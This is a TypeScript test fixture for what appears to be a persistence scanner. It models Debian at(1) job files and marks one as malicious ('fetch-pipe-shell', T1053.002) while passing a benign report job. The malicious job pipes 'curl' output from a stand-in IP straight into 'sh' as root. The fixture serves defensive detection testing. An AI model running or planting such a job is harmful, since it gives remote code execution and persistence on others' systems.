import type { Pair } from './pair.ts';

/** As at(1) of Debian writes it. */
function job(command: string) {
  const text = `#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
} && ${command}
`;
  return { text, mode: 0o700 };
}

export const pair: Pair = {
  tree: {
    '/var/spool/cron/atjobs/a0000101ba5f21': job('curl -s http://203.0.113.20/i.sh | sh'),
    '/var/spool/cron/atjobs/a0000201ba5f21': job('/usr/local/bin/report --monthly'),
  },
  blamed: [
    {
      path: '/var/spool/cron/atjobs/a0000101ba5f21',
      line: 8,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1053.002',
    },
  ],
  passed: ['a0000201ba5f21'],
};
